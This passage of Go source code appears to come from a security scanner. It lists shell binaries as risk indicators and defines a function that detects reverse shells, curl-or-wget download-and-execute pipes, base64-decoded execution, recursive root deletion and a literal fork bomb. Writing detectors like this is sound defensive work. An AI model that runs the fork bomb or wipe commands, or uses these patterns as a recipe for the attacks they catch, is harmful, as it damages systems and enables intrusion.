	"hping3": strongCmd, "jjs": strongCmd, "jrunscript": strongCmd, "ksshell": strongCmd, "ldconfig": strongCmd,
	"logsave": strongCmd, "msgfilter": strongCmd, "mysqld": strongCmd,
	"nmcli": strongCmd, "nroff": strongCmd, "nsenter": strongCmd, "octave": weakCmd, "openvpn": strongCmd,
	"pdb": weakCmd, "pic": weakCmd, "pry": weakCmd, "rlwrap": strongCmd, "rpmquery": strongCmd,
	"run-parts": strongCmd, "rview": strongCmd, "rvim": strongCmd, "scrot": strongCmd, "slsh": strongCmd,
	"smbmap": strongCmd, "sqlcmd": strongCmd, "ssh-keyscan": strongCmd, "start-stop-daemon": strongCmd,
	"stdbuf": strongCmd, "taskset": strongCmd, "unshare": strongCmd,
	"valgrind": strongCmd, "wall": weakCmd, "whiptail": strongCmd, "xdotool": strongCmd, "xmodmap": strongCmd,
	"xmore": strongCmd, "zathura": strongCmd, "zsoelim": strongCmd, "ionice": strongCmd,
	"flock": strongCmd, "cscli": strongCmd, "curlie": strongCmd, "httpie": strongCmd, "http": weakCmd,
}

// shellDanger finds the few shell constructs that are an attack wherever
// they occur: reverse shells, download-and-execute, wiping the file
// system, fork bombs.
func shellDanger(s string, m classes) (string, string) {
	if !m.has(cSlash | cPipe | cSemi | cAmp | cColon | cGT) {
		return "", ""
	}
	if i := indexFold(s, "/dev/tcp/", 0); i >= 0 {
		return "cmd.reverse_shell", s[i : i+9]
	}
	if i := indexFold(s, "/dev/udp/", 0); i >= 0 {
		return "cmd.reverse_shell", s[i : i+9]
	}
	for _, nc := range [...]string{"nc", "ncat", "netcat"} {
		if i := indexWordFold(s, nc, 0); i >= 0 {
			rest := s[i:min(len(s), i+200)]
			if containsFold(rest, " -e ") || containsFold(rest, " -c ") || containsFold(rest, "/bin/sh") || containsFold(rest, "/bin/bash") {
				return "cmd.reverse_shell", s[i:min(len(s), i+8)]
			}
		}
	}
	if m.has(cPipe) {
		for _, dl := range [...]string{"curl", "wget"} {
			if i := indexWordFold(s, dl, 0); i >= 0 {
				if p := strings.IndexByte(s[i:], '|'); p >= 0 {
					cmd, _, _ := commandAt(s, i+p+1)
					switch strings.ToLower(cmd) {
					case "sh", "bash", "zsh", "python", "python3", "perl", "ruby", "php", "sudo":
						return "cmd.download_exec", s[i:min(len(s), i+p+1+len(cmd))]
					}
				}
			}
		}
		if i := indexFold(s, "base64", 0); i >= 0 && (containsFold(s[i:], "-d") || containsFold(s[i:], "--decode")) {
			if p := strings.IndexByte(s[i:], '|'); p >= 0 {
				cmd, _, _ := commandAt(s, i+p+1)
				switch strings.ToLower(cmd) {
				case "sh", "bash", "zsh", "python", "python3", "perl":
					return "cmd.encoded_exec", s[i:min(len(s), i+p+1+len(cmd))]
				}
			}
		}
	}
	if i := indexWordFold(s, "rm", 0); i >= 0 {
		rest := s[i+2 : min(len(s), i+40)]
		if (containsFold(rest, "-rf") || containsFold(rest, "-fr") || containsFold(rest, "--recursive")) &&
			(strings.Contains(rest, " / ") || strings.HasSuffix(strings.TrimSpace(rest), " /") || strings.Contains(rest, " /*") || strings.Contains(rest, "--no-preserve-root")) {
			return "cmd.destructive", s[i:min(len(s), i+12)]
		}
	}
	if strings.Contains(s, ":(){") || strings.Contains(s, ":(){ :|:& };:") {
		return "cmd.fork_bomb", ":(){"
	}
	return "", ""
}
